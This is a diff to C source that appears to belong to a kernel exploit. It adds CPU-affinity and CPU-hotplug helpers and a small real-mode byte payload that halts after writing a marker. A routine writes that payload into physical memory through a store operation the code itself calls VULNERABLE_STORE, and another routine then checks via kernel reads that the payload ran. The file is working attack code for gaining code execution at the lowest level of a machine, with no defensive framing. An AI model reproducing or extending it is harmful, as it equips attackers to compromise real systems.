@@ -4,6 +4,7 @@
 #include "undo.h"
 #include <errno.h>
 #include <fcntl.h>
+#include <sched.h>
 #include <setjmp.h>
 #include <signal.h>
 #include <stdarg.h>
@@ -569,4 +570,58 @@ int write_file(const char *path, const char *text)
 		error = errno;
 	close(fd);
 	return error;
+}
+
+void on_cpu(unsigned cpu)
+{
+	cpu_set_t set;
+
+	CPU_ZERO(&set);
+	CPU_SET(cpu, &set);
+	if (sched_setaffinity(0, sizeof(set), &set))
+		failed("there is no CPU %u: %s", cpu, strerror(errno));
+}
+
+int set_online(unsigned cpu, int online)
+{
+	char path[64];
+
+	snprintf(path, sizeof(path), "/sys/devices/system/cpu/cpu%u/online", cpu);
+	return write_file(path, online ? "1" : "0");
+}
+
+int on_second_cpu(void (*what)(void *), void *with)
+{
+	pid_t child = fork();
+
+	if (child < 0)
+		failed("no other process: %s", strerror(errno));
+	if (child)
+		return child;
+	on_cpu(1);
+	what(with);
+	_exit(0);
+}
+
+// xor ax, ax; mov ds, ax; mov word [SEEN], MARK; cli; hlt; jmp to the hlt
+const u8 START[START_LENGTH] = { 0x31, 0xc0, 0x8e, 0xd8, 0xc7, 0x06, 0x00, 0x68, 0x37, 0x13, 0xfa, 0xf4, 0xeb, 0xfd, 0x90 };
+
+u64 prepare_start(void)
+{
+	u64 page = map_physical(START_PAGE, KERNEL_DATA);
+
+	operate(VULNERABLE_STORE, page + (SEEN - START_PAGE), 0, 8);
+	for (unsigned i = 0; i < START_LENGTH; i++)
+		operate(VULNERABLE_STORE, page + i, START[i], 1);
+	return page;
+}
+
+int seen(u64 page)
+{
+	for (int i = 0; i < 50; i++) {
+		if ((kread64(page + (SEEN - START_PAGE)) & 0xffff) == MARK)
+			return 1;
+		usleep(100000);
+	}
+	return 0;
 }
